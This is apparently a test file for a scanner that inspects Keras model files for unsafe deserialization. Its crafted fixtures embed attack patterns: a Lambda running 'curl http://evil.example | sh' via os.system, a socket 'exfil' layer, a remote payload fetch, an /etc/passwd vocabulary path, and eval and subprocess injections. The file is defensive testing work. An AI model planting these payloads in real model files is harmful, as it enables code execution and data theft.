// Keras findings: P7_keras_lambdas as its expect.json says (model.keras and model.h5), the
// tabuse_demo_lambda_savedmodel keras_metadata.pb, binja_keras_custom_layer, the benign dl4j
// Keras HDF5 models, and crafted .keras archives for every config-level attack (module injection
// in Lambda arguments and initializers, get_file, enable_unsafe_deserialization, TFSMLayer,
// vocabulary files, TorchModuleWrapper) with benign and malicious Lambdas side by side.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Finding } from '../../../shared/findings.ts';
import { SEVERITY_RANK, atLeast } from '../../../shared/findings.ts';
import type { ModelIR } from '../../../shared/ir.ts';
import { parseKerasMetadataPb, readKerasH5, readKerasV3 } from '../../../main/formats/keras.ts';
import { kerasFindings, versionAffected } from '../../../main/analysis/keras.ts';
import { crafted, real, skipWithoutCorpus, tempDir } from '../../helpers/corpus.ts';
import { base64Lines, buildKerasArchive, marshal, rawUnicodeEscape } from '../formats/writers.ts';

function checkShape(f: Finding): void {
  assert.equal(f.id, '');
  assert.deepEqual(f.trigger, { kind: 'none', variables: [], gates: [], activation: [] });
  assert.equal(f.reachability, 'load');
  assert.ok(f.evidence.length >= 2);
  assert.ok(f.figure.nodes.length >= 1);
  for (const e of f.figure.edges) assert.ok(f.figure.nodes.some((n) => n.id === e.from) && f.figure.nodes.some((n) => n.id === e.to));
  assert.ok(f.details?.layerPath !== undefined && f.details?.kerasVersion !== undefined);
}

async function scanArchive(config: unknown, kerasVersion = '3.15.1'): Promise<Finding[]> {
  const file = join(tempDir(), 'crafted.keras');
  writeFileSync(file, buildKerasArchive(config, { kerasVersion }));
  const findings = kerasFindings(await readKerasV3(file));
  findings.forEach(checkShape);
  return findings;
}

test('P7_keras_lambdas (model.keras and model.h5): nested postprocess Lambda (subprocess/run) above the benign double', { skip: skipWithoutCorpus }, async () => {
  const expect = JSON.parse(readFileSync(crafted('P7_keras_lambdas', 'expect.json'), 'utf8')) as { must: { capability: string; trigger: string }[] };
  for (const model of [await readKerasV3(crafted('P7_keras_lambdas', 'model.keras')), await readKerasH5(crafted('P7_keras_lambdas', 'model.h5'))]) {
    const findings = kerasFindings(model);
    findings.forEach(checkShape);
    for (const must of expect.must) assert.ok(findings.some((f) => f.capability === must.capability && f.trigger.kind === must.trigger), model.path);
    const post = findings.find((f) => f.node.endsWith('inner_block/postprocess'))!;
    const double = findings.find((f) => f.node.endsWith('/double'))!;
    assert.equal(post.severity, 'critical');
    assert.equal(double.severity, 'low');
    assert.ok(SEVERITY_RANK[post.severity] > SEVERITY_RANK[double.severity]);
    assert.deepEqual(post.evidence, [
      'nested_lambda_model (Functional)',
      'nested_lambda_model/inner_block (Functional)',
      'inner_block/postprocess (Lambda)',
      'bytecode: imports subprocess via __import__; uses run; constants "true"',
    ]);
    assert.equal(post.details!.layerPath, 'config.layers[3].config.layers[1].config.function.config.code');
    assert.match(post.details!.pythonVersion, /Python 3\.11\+/);
    assert.ok(post.figure.nodes.some((n) => n.label === 'run') && post.figure.nodes.some((n) => n.label === '"subprocess"'));
    assert.equal(post.details!.kerasVersion, '3.15.1');
  }
});

test('tabuse_demo_lambda_savedmodel keras_metadata.pb: Lambda naming __main__.exploit', { skip: skipWithoutCorpus }, () => {
  const file = real('tabuse_demo_lambda_savedmodel', 'keras_metadata.pb');
  const model: ModelIR = { path: file, format: 'saved-model', files: [], metaGraphs: [], keras: parseKerasMetadataPb(readFileSync(file), file), warnings: [] };
  const findings = kerasFindings(model);
  findings.forEach(checkShape);
  assert.equal(findings.length, 1);
  const [f] = findings;
  assert.equal(f.rule, 'keras-named-function');
  assert.equal(f.capability, 'python-code');
  assert.equal(f.severity, 'high');
  assert.equal(f.node, 'sequential_1/lambda');
  assert.deepEqual(f.evidence, ['sequential_1 (Sequential)', 'sequential_1/lambda (Lambda)', 'function __main__.exploit']);
  assert.equal(f.details!.module, '__main__');
  assert.equal(f.details!.function, 'exploit');
});

test('binja_keras_custom_layer: the registered custom class outside Keras, with CVE-2025-1550 for Keras 3.3.3', { skip: skipWithoutCorpus }, async () => {
  const findings = kerasFindings(await readKerasV3(real('binja_keras_custom_layer', 'malicious_model.keras')));
  assert.equal(findings.length, 1);
  assert.equal(findings[0].rule, 'keras-external-class');
  assert.equal(findings[0].severity, 'medium');
  assert.equal(findings[0].details!.cve, 'CVE-2025-1550');
  assert.equal(findings[0].details!.registeredName, 'Custom>MaliciousModel');
});

test('dl4j Keras HDF5 models (benign, incl. arithmetic Lambdas): nothing at medium or above', { skip: skipWithoutCorpus }, async () => {
  for (const file of [
    real('dl4j_keras_lambda', 'model_lambda.h5'),
    real('dl4j_keras_lambda', 'sequential_lambda.h5'),
    real('dl4j_keras1_simple_lstm_th', 'simple_lstm_th_keras_1_model.h5'),
    real('dl4j_keras2_functional_lstm', 'lstm_functional_tf_keras_2.h5'),
    real('dl4j_keras2_simple_lstm_tf', 'simple_lstm_tf_keras_2_model.h5'),
    real('dl4j_keras2_simple_lstm_tf', 'simple_lstm_tf_keras_2_weights.h5'),
    real('dl4j_keras_optimizer_adam', 'adam.h5'),
    real('dl4j_tfkeras_mlp_0', 'mlp_0.h5'),
  ]) {
    const findings = kerasFindings(await readKerasH5(file));
    assert.deepEqual(findings.filter((f) => atLeast(f.severity, 'medium')).map((f) => f.message), [], file);
  }
  const lambdas = kerasFindings(await readKerasH5(real('dl4j_keras_lambda', 'model_lambda.h5')));
  assert.deepEqual(lambdas.map((f) => [f.node, f.severity, f.details!.cve]), [
    ['model_1/lambda_3', 'low', 'CVE-2024-3660'],
    ['model_1/lambda_4', 'low', 'CVE-2024-3660'],
  ]);
  assert.match(lambdas[0].details!.pythonVersion, /Python 2/);
});

// ---------------------------------------------------------------- crafted archives

const layer = (class_name: string, config: Record<string, unknown>, module = 'keras.layers') => ({ module, class_name, registered_name: null, config: { trainable: true, ...config } });
const model = (name: string, layers: unknown[], class_name = 'Functional') => ({ module: 'keras.src.models.functional', class_name, registered_name: class_name, config: { name, trainable: true, layers } });
const lambdaLayer = (name: string, code: Uint8Array, extra: Record<string, unknown> = {}) =>
  layer('Lambda', { name, function: { class_name: '__lambda__', config: { code: base64Lines(code), defaults: null, closure: null } }, arguments: {}, ...extra });
const code311 = (names: string[], consts: (string | number | null)[] = [null]) => marshal({ code: { layout: '3.11+', names, consts } });

test('several Lambdas in nested models: arithmetic ones low, os/socket/eval ones critical, with nesting in the evidence', async () => {
  const config = model('outer', [
    layer('InputLayer', { name: 'in' }),
    lambdaLayer('times_two', code311([], [null, 2])),
    model('block', [lambdaLayer('scale', code311(['tf', 'math', 'sqrt'])), model('deepest', [lambdaLayer('exfil', code311(['__import__', 'socket', 'create_connection'], [null, 'socket', '10.0.0.1']))], 'Sequential')]),
    lambdaLayer('shell', code311(['os', 'system'], [null, 'curl http://evil.example | sh'])),
    lambdaLayer('evaluator', code311(['eval'], [null, '1+1'])),
    lambdaLayer('opener', code311(['open', 'read'], [null, 'notes.txt'])),
  ]);
  const findings = await scanArchive(config);
  const by = (name: string) => findings.find((f) => f.node.endsWith(`/${name}`))!;
  assert.equal(by('times_two').severity, 'low');
  assert.equal(by('scale').severity, 'low');
  assert.equal(by('exfil').severity, 'critical');
  assert.deepEqual(by('exfil').evidence.slice(0, 3), ['outer (Functional)', 'outer/block (Functional)', 'block/deepest (Sequential)']);
  assert.equal(by('exfil').node, 'outer/block/deepest/exfil');
  assert.equal(by('shell').severity, 'critical');
  assert.match(by('shell').message, /module os, system/);
  assert.equal(by('evaluator').severity, 'critical');
  assert.equal(by('opener').severity, 'high');
  assert.equal(findings.length, 6);
});

test('undecodable Lambda bytecode is rated high, not ignored', async () => {
  const findings = await scanArchive(model('m', [layer('Lambda', { name: 'junk', function: { class_name: '__lambda__', config: { code: base64Lines(new Uint8Array([0x63, 1, 2, 3])) } } })]));
  assert.equal(findings.length, 1);
  assert.equal(findings[0].severity, 'high');
  assert.match(findings[0].details!.rating, /could not be decoded/);
});

test('config-level module injection: os.system in Lambda arguments and builtins.eval as an initializer (CVE-2025-1550 below 3.9)', async () => {
  const config = model('m', [
    layer('Lambda', { name: 'lam', function: { module: 'keras.ops', class_name: 'function', config: 'add', registered_name: null }, arguments: { y: { module: 'os', class_name: 'function', config: 'system', registered_name: 'system' } } }),
    layer('Dense', { name: 'dense', units: 2, kernel_initializer: { module: 'builtins', class_name: 'function', config: 'eval', registered_name: null } }),
    layer('Dense', { name: 'ok', units: 2, kernel_initializer: { module: 'keras.initializers', class_name: 'GlorotUniform', config: { seed: null }, registered_name: null } }),
    layer('Lambda', { name: 'printer', function: { module: 'builtins', class_name: 'function', config: 'abs', registered_name: 'function' } }),
  ]);
  const findings = await scanArchive(config, '3.8.0');
  assert.deepEqual(findings.map((f) => [f.node, f.rule, f.severity, f.details!.cve]), [
    ['m/lam', 'keras-named-function', 'critical', 'CVE-2025-1550'],
    ['m/dense', 'keras-named-function', 'critical', 'CVE-2025-1550'],
    ['m/printer', 'keras-named-function', 'low', 'CVE-2025-1550'],
  ]);
  assert.deepEqual(findings[0].evidence, ['m (Functional)', 'm/lam (Lambda)', 'function os.system']);
  assert.equal(findings[0].details!.layerPath, 'config.layers[0].config.arguments.y');
  const patched = await scanArchive(config, '3.12.0');
  assert.equal(patched[0].details!.cve, 'none');
  assert.match(patched[0].details!.relatedCve, /CVE-2025-1550 \(Keras 3\.0\.0 – < 3\.9\.0\)/);
});

test('an arbitrary class from a non-Keras module, and a class-level attack from os', async () => {
  const findings = await scanArchive(model('m', [layer('Popen', { name: 'p' }, 'subprocess'), layer('MyLayer', { name: 'mine' }, 'my_project.layers')]), '3.5.0');
  assert.deepEqual(findings.map((f) => [f.rule, f.severity]), [['keras-external-class', 'critical'], ['keras-external-class', 'medium']]);
});

test('keras.utils.get_file with a URL: network finding with the URL argument (CVE-2025-8747 below 3.11)', async () => {
  const config = model('m', [
    layer('Lambda', { name: 'fetch', function: { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: null }, arguments: { fname: 'x.tar.gz', origin: 'https://evil.example/payload.tar.gz', extract: true } }),
  ]);
  const findings = await scanArchive(config, '3.10.0');
  assert.equal(findings.length, 1);
  const [f] = findings;
  assert.equal(f.rule, 'keras-get-file');
  assert.equal(f.capability, 'network');
  assert.equal(f.details!.cve, 'CVE-2025-8747');
  assert.deepEqual(f.arguments.map((a) => [a.value, a.classification]), [['https://evil.example/payload.tar.gz', 'http']]);
});

test('enable_unsafe_deserialization before a Lambda: critical toggle, and the Lambda attributed to CVE-2025-9906', async () => {
  const config = model('m', [
    layer('Lambda', { name: 'toggle', function: { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization', registered_name: null } }),
    lambdaLayer('payload', code311(['os', 'system'], [null, 'id'])),
  ]);
  const findings = await scanArchive(config, '3.10.0');
  const toggle = findings.find((f) => f.rule === 'keras-unsafe-deserialization')!;
  assert.equal(toggle.severity, 'critical');
  assert.equal(toggle.details!.cve, 'CVE-2025-9906');
  const payload = findings.find((f) => f.rule === 'keras-lambda-bytecode')!;
  assert.equal(payload.details!.cve, 'CVE-2025-9906');
});

test('TFSMLayer, vocabulary files and TorchModuleWrapper', async () => {
  const config = model('m', [
    layer('TFSMLayer', { name: 'external', filepath: '/tmp/attacker_savedmodel', call_endpoint: 'serve' }),
    layer('StringLookup', { name: 'lookup', vocabulary: '/etc/passwd', num_oov_indices: 1 }),
    layer('IntegerLookup', { name: 'remote', vocabulary: 'https://internal.example/vocab.txt' }),
    layer('StringLookup', { name: 'inline', vocabulary: ['a', 'b'] }),
    layer('TorchModuleWrapper', { name: 'torch', module: 'gASVXw...' }),
  ]);
  const findings = await scanArchive(config, '3.11.3');
  const by = (name: string) => findings.filter((f) => f.node === `m/${name}`);
  assert.deepEqual(by('external').map((f) => [f.rule, f.capability, f.severity, f.details!.cve]), [['keras-tfsmlayer', 'file-read', 'high', 'CVE-2026-1462']]);
  assert.equal(by('external')[0].arguments[0].value, '/tmp/attacker_savedmodel');
  const lookup = by('lookup');
  assert.deepEqual(lookup.map((f) => [f.rule, f.capability, f.severity, f.details!.cve]), [['keras-vocabulary-file', 'file-read', 'high', 'CVE-2025-12058']]);
  assert.equal(lookup[0].arguments[0].classification, 'sensitive-path');
  assert.deepEqual(by('remote').map((f) => [f.capability, f.arguments[0].classification]), [['network', 'http']]);
  assert.deepEqual(by('inline'), []);
  assert.deepEqual(by('torch').map((f) => [f.rule, f.severity]), [['keras-torch-module', 'critical']]);
});

test('a Keras 2 legacy config: named function from os, and raw_unicode_escape bytecode importing os', async () => {
  const py2 = marshal({ code: { layout: '2.7', names: ['os', 'system'], consts: [null, 'id'], bytecode: new Uint8Array([0x64, 1, 0, 0x64, 0, 0, 108, 0, 0, 0x53]) } }, true);
  const config = {
    class_name: 'Sequential',
    config: [
      { class_name: 'Lambda', config: { name: 'named', function: 'system', function_type: 'function', module: 'os', arguments: {} } },
      { class_name: 'Lambda', config: { name: 'coded', function: [rawUnicodeEscape(py2), null, null], function_type: 'lambda', module: '__main__', arguments: {} } },
    ],
  };
  const keras = { kerasVersion: '2.2.4', backend: 'tensorflow', config, layers: (await import('../../../main/formats/keras.ts')).collectLayers(config, '', [], 'x.h5'), weights: [], metadata: {} };
  const findings = kerasFindings({ path: 'x.h5', format: 'keras-h5', files: [], metaGraphs: [], keras, warnings: [] });
  findings.forEach(checkShape);
  assert.deepEqual(findings.map((f) => [f.node, f.rule, f.severity, f.details!.cve]), [
    ['model/named', 'keras-named-function', 'critical', 'none'],
    ['model/coded', 'keras-lambda-bytecode', 'critical', 'CVE-2024-3660'],
  ]);
  assert.match(findings[1].evidence.at(-1)!, /imports os/);
});

test('a benign Keras 3 model has no findings; version ranges compare numerically', async () => {
  const findings = await scanArchive(model('clean', [layer('InputLayer', { name: 'x' }), layer('Dense', { name: 'd', units: 3, kernel_initializer: { module: 'keras.initializers', class_name: 'GlorotUniform', config: { seed: null }, registered_name: null } })]));
  assert.deepEqual(findings, []);
  assert.equal(versionAffected('3.10.0', { id: 'x', from: '3.0.0', to: '3.9.0', summary: '' }), false);
  assert.equal(versionAffected('3.8.1', { id: 'x', from: '3.0.0', to: '3.9.0', summary: '' }), true);
  assert.equal(versionAffected('2.2.4-tf', { id: 'x', from: '0', to: '2.13.0', summary: '' }), true);
  assert.equal(versionAffected(null, { id: 'x', from: '0', to: '9', summary: '' }), false);
});
